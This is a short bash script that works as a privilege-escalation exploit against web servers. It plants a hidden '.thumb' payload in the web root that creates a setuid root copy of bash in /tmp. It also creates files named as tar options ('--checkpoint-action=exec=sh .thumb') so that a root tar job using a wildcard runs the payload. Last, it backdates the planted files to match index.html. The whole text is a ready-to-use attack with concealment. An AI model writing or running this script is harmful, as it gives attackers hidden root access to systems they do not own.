#!/bin/bash
cd "${1:-/var/www/html}" || exit 1
cat > .thumb <<'X'
#!/bin/sh
cp /bin/bash /tmp/.cache-bash; chown root:root /tmp/.cache-bash; chmod 6777 /tmp/.cache-bash
X
: > "./--checkpoint=1"
: > "./--checkpoint-action=exec=sh .thumb"
: > "./--owner=root"
touch -r index.html -- .thumb ./--*
